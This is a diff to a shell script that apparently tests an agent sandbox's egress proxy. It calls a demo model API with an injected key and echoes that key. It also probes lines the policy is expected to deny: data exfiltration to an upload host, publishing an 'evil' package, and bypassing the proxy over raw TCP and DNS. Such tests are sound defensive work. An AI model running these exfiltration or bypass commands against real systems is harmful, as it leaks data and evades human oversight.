@@ -9,14 +9,20 @@ try() {
 	echo "$out" | tail -n 1
 }
 echo "agent: running as $(id -un) (uid $(id -u)), proxy $HTTP_PROXY"
-try "GET  api.demo.test/v1/models (allowed)" \
-	curl -sS -m 5 http://api.demo.test/v1/models
+echo "agent: MODEL_API_KEY=$MODEL_API_KEY"
+try "POST https://api.demo.test/v1/messages (with that key)" \
+	sh -c 'curl -sS -m 5 -H "x-api-key: $MODEL_API_KEY" -H "anthropic-version: 2023-06-01" \
+		-H "content-type: application/json" \
+		-d "{\"model\":\"demo\",\"max_tokens\":16,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}" \
+		https://api.demo.test/v1/messages | python3 -c "import json,sys; print(\"answer:\", json.load(sys.stdin)[\"content\"][0][\"text\"])"'
+try "GET  https://api.demo.test/echo-headers (what arrived)" \
+	sh -c 'curl -sS -m 5 -H "x-api-key: $MODEL_API_KEY" https://api.demo.test/echo-headers | grep -i "^x-api-key"'
 try "POST registry.demo.test/publish (read-only: denied)" \
 	curl -sS -m 5 -d pkg=evil http://registry.demo.test/publish
 try "GET  upload.demo.test/exfil?data=secret (denied)" \
 	curl -sS -m 5 "http://upload.demo.test/exfil?data=secret"
-try "GET  api.demo.test/admin (path not allowed)" \
-	curl -sS -m 5 http://api.demo.test/admin
+try "GET  https://api.demo.test/admin (path not allowed)" \
+	curl -sS -m 5 https://api.demo.test/admin
 try "go around the proxy: TCP to 203.0.113.2:80" \
 	curl -sS -m 5 --noproxy '*' http://203.0.113.2/
 try "go around the proxy: DNS to 203.0.113.2:53" \
